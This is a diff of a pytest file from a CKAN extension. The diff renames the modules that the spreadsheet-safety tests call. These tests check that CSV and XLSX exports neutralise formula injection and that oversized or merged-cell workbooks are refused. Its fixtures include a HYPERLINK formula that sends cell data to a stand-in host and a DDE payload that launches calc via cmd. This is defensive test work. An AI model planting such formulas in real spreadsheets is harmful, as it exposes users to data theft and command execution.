@@ -15,9 +15,9 @@ import pytest
 from ckan.tests import factories, helpers
 from openpyxl import Workbook
 
-from ckanext.satudata import daftar_data_io, spreadsheet_safety, template_files
-from ckanext.satudata.checks import infer
+from ckanext.satudata import spreadsheet_safety
 from ckanext.satudata.checks.reader import Unreadable, open_table
+from ckanext.satudata.daftar_data import spreadsheet
 from ckanext.satudata.report import exports
 from ckanext.satudata.spreadsheet_safety import (
     WorkbookRefused,
@@ -26,6 +26,7 @@ from ckanext.satudata.spreadsheet_safety import (
     restore,
     xlsx_row,
 )
+from ckanext.satudata.table_template import downloads, drafting
 
 LINK = '=HYPERLINK("http://example.invalid/?d="&B5,"Lihat data")'
 
@@ -89,7 +90,7 @@ class TestDaftarDataExport:
 
     def test_csv_quotes_formulas_and_imports_back_unchanged(self):
         rows = self._rows()
-        content = daftar_data_io.write_rows(rows, "csv")
+        content = spreadsheet.write_rows(rows, "csv")
         table = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
         cells = {h: v for h, v in zip(table[0], table[1], strict=True)}
         assert cells["Nama Data"] == "'" + LINK
@@ -97,7 +98,7 @@ class TestDaftarDataExport:
         assert cells["Definisi"] == "'-saja"
         assert cells["Satuan"] == "-5"  # a number, unchanged
         assert cells["Produsen Data"] == "'=cmd|' /C calc'!A0"
-        back = daftar_data_io.read_rows(content, 2025)
+        back = spreadsheet.read_rows(content, 2025)
         (row,) = back.valid_rows
         assert row.data["nama_data"] == LINK
         assert row.data["catatan"] == "=2+3"
@@ -106,11 +107,11 @@ class TestDaftarDataExport:
 
     def test_xlsx_has_no_formula_and_imports_back_unchanged(self):
         rows = self._rows()
-        content = daftar_data_io.write_rows(rows, "xlsx")
+        content = spreadsheet.write_rows(rows, "xlsx")
         _no_formulas(content)
         texts = {c.value for c in _sheet_cells(content)}
         assert {LINK, "=2+3", "-saja"} <= texts
-        (row,) = daftar_data_io.read_rows(content, 2025).valid_rows
+        (row,) = spreadsheet.read_rows(content, 2025).valid_rows
         assert row.data["nama_data"] == LINK
         assert row.data["catatan"] == "=2+3"
 
@@ -170,11 +171,11 @@ def test_template_files_keep_titles_and_choices_as_text():
             {"name": "jumlah", "type": "integer"},
         ]},
     }
-    content = template_files.workbook(template, version)
+    content = downloads.workbook(template, version)
     _no_formulas(content)
     texts = {c.value for c in _sheet_cells(content)}
     assert {LINK, "=2+3", "=1+1"} <= texts
-    assert template_files.header_csv(version["table_schema"], {}) == (
+    assert downloads.header_csv(version["table_schema"], {}) == (
         b"kecamatan,jumlah\r\n")
 
 
@@ -318,7 +319,7 @@ def test_the_total_size_cap_comes_from_the_config():
 @pytest.mark.usefixtures("with_request_context")
 class TestEveryReaderIsGuarded:
     def test_daftar_data_import_shows_the_reason(self):
-        preview = daftar_data_io.read_rows(crafted(after=_merge("A1:Z30000")), 2025)
+        preview = spreadsheet.read_rows(crafted(after=_merge("A1:Z30000")), 2025)
         assert preview.rows == []
         assert "menggabungkan (merge)" in preview.errors[0]
 
@@ -336,7 +337,7 @@ class TestEveryReaderIsGuarded:
         with open(path, "wb") as f:
             f.write(_bomb())
         with pytest.raises(Unreadable) as refused:
-            infer.infer(path, file_name="sampel.xlsx")
+            drafting.infer(path, file_name="sampel.xlsx")
         assert refused.value.code == "xlsx-terlalu-besar"
 
 
